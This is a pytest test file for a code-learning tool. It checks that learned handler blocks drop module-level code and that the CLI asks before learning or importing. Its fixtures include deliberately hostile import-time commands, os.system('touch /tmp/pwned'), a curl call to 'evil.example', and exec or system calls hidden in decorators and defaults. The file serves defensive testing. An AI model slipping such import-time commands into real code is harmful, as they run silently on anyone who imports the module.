"""Learned blocks carry only the functions and classes they learned and the imports those
use: no other module-level code travels into packages generated later. ``learn`` and
``patterns import`` say what they will take in and ask first (``--yes`` for scripts)."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
import textwrap
from dataclasses import replace
from pathlib import Path

import pytest

from onex_lsp.contract.reader import load_contract
from onex_lsp.generation.package_plan import Location
from onex_lsp.generation.pipeline import plan_package
from onex_lsp.learning.blocks import (
    DEFINITIONS_ONLY,
    PROSE_IN_CODE,
    blocks_from_source,
    checked_block,
)
from onex_lsp.learning.embeddings.hashing import HashingEmbedder
from onex_lsp.learning.extraction import module_without_docstring
from onex_lsp.learning.learned_block import LearnedBlock
from onex_lsp.learning.library import PatternLibrary, learned_option, name_context
from onex_lsp.learning.parameterize import instantiate
from tests.conftest import EXAMPLES, package_files

WHERE = Location(Path("/ws/contracts/contract.yaml"), Path("/ws"))
ORIGIN = "/repo/node_user_management_effect/handlers/handler_create_user.py"

HOSTILE = textwrap.dedent(
    '''\
    """Create a user."""

    import os
    import subprocess

    from ..models.model_user_management_input import ModelUserManagementInput
    from ..models.model_user_management_output import ModelUserManagementOutput

    _X = __import__("os").system("touch /tmp/pwned")
    subprocess.run(["curl", "evil.example"])
    print("imported")
    DEFAULT_STATUS = "active"


    async def handle_create_user(
        request: ModelUserManagementInput, repository: object
    ) -> ModelUserManagementOutput:
        record = dict(request.payload)
        record.setdefault("status", DEFAULT_STATUS)
        stored = await repository.create(record)
        return ModelUserManagementOutput(operation="create_user", data=stored)
    '''
)


USERS = next(p for p in EXAMPLES if p.name == "user_management_effect.yaml")


def _handler_block(source: str, origin: str = ORIGIN) -> LearnedBlock:
    (block,) = [b for b in blocks_from_source(source, origin).blocks if b.kind == "handler"]
    return block


def test_module_level_code_is_not_learned() -> None:
    block = _handler_block(HOSTILE)
    assert block.extra == {"module": True, DEFINITIONS_ONLY: True, PROSE_IN_CODE: False}
    for text in (block.template, block.source):
        assert "system" not in text and "subprocess" not in text and "print(" not in text
        assert "import os" not in text
        assert 'DEFAULT_STATUS = "active"' in text  # an inert constant the handler uses
        assert "async def __ONEX_FUNCTION__(" in text or "async def handle_create_user(" in text


def test_a_package_generated_with_the_learned_block_carries_none_of_it() -> None:
    block = _handler_block(HOSTILE)
    contract = load_contract(USERS.read_text()).contract
    assert contract is not None and contract.name == "user_management"
    plan = plan_package(contract, WHERE).plan
    option = learned_option(block, contract, plan, "create_user", 0.9)
    assert option is not None
    files = package_files(plan_package(contract, WHERE, learned={"create_user": [option]}))
    handler = files["handlers/handler_create_user.py"]
    assert 'record.setdefault("status", DEFAULT_STATUS)' in handler  # the learned code
    assert "system" not in handler and "subprocess" not in handler


@pytest.mark.parametrize(
    "module",
    [
        "import os\n_X = os.system('x')\n\n\ndef handle_get_user(request):\n    return _X\n",
        '@__import__("os").system("x")\ndef handle_get_user(request):\n    return 1\n',
        "def handle_get_user(request, flag=exec('1')):\n    return flag\n",
        "import os\n\n\n@os.system\ndef handle_get_user(request):\n    return 1\n",
        "class Helper:\n    x = print('at import')\n\n\ndef handle_get_user(r):\n    return Helper\n",
    ],
    ids=["needs-dropped-name", "decorator-call", "default-exec", "decorator-system", "class-body"],
)
def test_a_handler_that_needs_code_run_at_import_is_never_offered(module: str) -> None:
    block = _handler_block(module, ORIGIN.replace("create_user", "get_user"))
    assert block.extra["module"] is False  # learned alone; candidates() skips it


def test_a_journal_from_before_the_filter_is_cut_down_when_re_rendered(tmp_path: Path) -> None:

    block = _handler_block(HOSTILE)
    assert block.extra[DEFINITIONS_ONLY] is True  # learned, cut, marked
    template = '_X = __import__("os").system("x")\n' + block.template
    old = replace(block, template=template, extra={"module": True})  # no mark: not cut
    contract = load_contract(USERS.read_text()).contract
    assert contract is not None
    plan = plan_package(contract, WHERE).plan
    option = learned_option(old, contract, plan, "create_user", 0.9)
    assert option is not None and "system" not in option.module_text
    marked = learned_option(block, contract, plan, "create_user", 0.9)  # not cut again
    assert marked is not None and marked.module_text == option.module_text


def test_an_imported_block_is_marked_cut_only_by_the_import(tmp_path: Path) -> None:
    """An export's "cut already" mark is not trusted: a handler learned alone (not a
    module) keeps being cut when re-rendered, whatever its record says."""
    alone = _handler_block(HOSTILE)
    forged = replace(alone, extra={"module": False, DEFINITIONS_ONLY: True})
    checked, _ = checked_block(forged)
    assert checked is not None and checked.extra == {"module": False, PROSE_IN_CODE: False}
    module, _ = checked_block(replace(alone, extra={"module": True}))
    assert module is not None
    assert module.extra == {"module": True, DEFINITIONS_ONLY: True, PROSE_IN_CODE: False}


def test_a_prose_name_in_code_is_refused_whatever_an_export_says() -> None:
    """``purchase-order`` in code is a subtraction: a template that puts a prose form
    outside a string or comment never renders, even if its record claims it was checked."""
    block = _handler_block(HOSTILE)
    template = block.template.replace("return ", "x = __ONEX_ENTITY_KEBAB__\n    return ", 1)
    forged = replace(block, template=template, extra={"module": True, PROSE_IN_CODE: False})
    checked, _ = checked_block(forged)
    assert checked is not None and checked.extra[PROSE_IN_CODE] is True
    contract = load_contract(USERS.read_text()).contract
    assert contract is not None
    plan = plan_package(contract, WHERE).plan
    assert learned_option(checked, contract, plan, "create_user", 0.9) is None


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.stem)
def test_generated_handler_modules_round_trip_through_their_templates(example: Path) -> None:
    """Learning a generated handler and re-rendering it for the same contract gives the
    module back exactly: the filter never changes code made only of definitions."""
    contract = load_contract(example.read_text(), str(WHERE.contract)).contract
    assert contract is not None
    generated = plan_package(contract, WHERE)
    files = package_files(generated)
    package = f"/ws/contracts/{generated.plan.package}"
    checked = 0
    for rel, text in files.items():
        if not rel.startswith("handlers/handler_"):
            continue
        found = [b for b in blocks_from_source(text, f"{package}/{rel}").blocks
                 if b.kind == "handler" and b.extra.get("module")]  # fmt: skip
        for block in found:
            assert block.operation is not None
            context = name_context(contract, generated.plan, block.operation)
            assert instantiate(block.template, context) == module_without_docstring(text)
            checked += 1
    if generated.plan.style.value == "function":
        assert checked > 0


def _run(*args: str, stdin: int | None = subprocess.DEVNULL) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "onex_lsp", *args], stdin=stdin, capture_output=True, text=True,
        timeout=300,
    )  # fmt: skip


def _code(tmp_path: Path) -> Path:
    folder = tmp_path / "code" / "node_user_management_effect" / "handlers"
    folder.mkdir(parents=True)
    (folder / "handler_create_user.py").write_text(HOSTILE)
    return tmp_path / "code"


def test_learn_refuses_without_a_terminal_or_yes(tmp_path: Path) -> None:
    code, data = _code(tmp_path), tmp_path / "data"
    refused = _run("learn", str(code), "--data-dir", str(data), "--embedder", "hashing")
    assert refused.returncode == 2
    assert "about to learn from 1 Python file(s)" in refused.stderr
    assert "pass --yes" in refused.stderr and not data.exists()
    done = _run("learn", "--yes", str(code), "--data-dir", str(data), "--embedder", "hashing")
    assert done.returncode == 0 and done.stdout.startswith("learned ")


def _in_terminal(args: list[str], answer: bytes) -> tuple[int, str]:
    """Run the CLI with a pseudo-terminal as stdin (a user at a prompt)."""
    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "onex_lsp", *args], stdin=follower,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    os.close(follower)
    os.write(leader, answer)
    out, err = proc.communicate(timeout=300)
    os.close(leader)
    return proc.returncode, (out + err).decode()


def test_learn_asks_and_a_no_learns_nothing(tmp_path: Path) -> None:
    code, data = _code(tmp_path), tmp_path / "data"
    args = ["learn", str(code), "--data-dir", str(data), "--embedder", "hashing"]
    status, text = _in_terminal(args, b"n\n")
    assert status == 1 and "learn from them? [y/N]" in text and "nothing was changed" in text
    assert not data.exists()
    status, text = _in_terminal(args, b"y\n")
    assert status == 0 and "learned 1 new block(s)" in text


def test_import_says_what_it_will_add_and_cuts_module_level_code(tmp_path: Path) -> None:
    block = _handler_block(HOSTILE)
    record = json.loads(block.to_json())
    record["template"] = 'import os\nos.system("x")\n' + record["template"]
    exported = tmp_path / "export.jsonl"
    exported.write_text(
        json.dumps({"block": record}) + "\n" + json.dumps({"event": {"type": "shown"}}) + "\n"
    )
    data = tmp_path / "data"
    common = ["patterns", "--data-dir", str(data), "--embedder", "hashing", "import"]
    refused = _run(*common, str(exported))
    assert refused.returncode == 2 and not (data / "journal.sqlite3").exists()
    assert "holds 1 block(s) to import" in refused.stderr and "(handler 1)" in refused.stderr
    assert "learned from:" in refused.stderr and "node_user_management_effect/handlers (1)" in (
        refused.stderr
    )
    assert "module-level code beyond their definitions: it is removed" in refused.stderr
    done = _run(*common, str(exported), "--yes")
    assert done.returncode == 0 and done.stdout.strip() == "imported 1 new block(s)"
    library = PatternLibrary(data, HashingEmbedder())
    try:
        ((_, imported),) = library.journal.blocks()
        assert "system" not in imported.template
    finally:
        library.close()
